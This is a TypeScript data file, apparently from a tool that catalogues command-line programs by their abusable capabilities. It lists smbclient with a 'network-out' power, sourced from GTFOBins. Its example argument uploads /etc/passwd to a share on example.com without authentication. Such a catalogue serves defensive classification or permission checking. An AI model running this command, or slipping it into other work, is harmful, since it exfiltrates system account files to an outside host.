import type { Program } from '../program.ts';

export default (): readonly Program[] => [
  {
    prefix: 'smbclient',
    powers: [{ can: 'network-out', words: `//example.com/x -N -c 'put /etc/passwd p'`, mild: true, seen: true }],
    source: ['gtfo:smbclient'],
    confidence: 'high',
  },
];
